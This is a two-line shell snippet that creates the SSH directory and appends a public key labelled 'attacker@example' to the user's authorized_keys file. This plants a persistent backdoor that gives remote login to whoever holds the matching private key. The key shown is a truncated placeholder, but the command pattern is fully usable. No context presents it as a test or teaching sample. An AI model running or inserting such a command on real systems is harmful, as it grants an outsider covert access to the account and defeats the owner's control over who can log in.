mkdir -p ~/.ssh
echo "ssh-rsa AAAAB3Nza attacker@example" >> ~/.ssh/authorized_keys
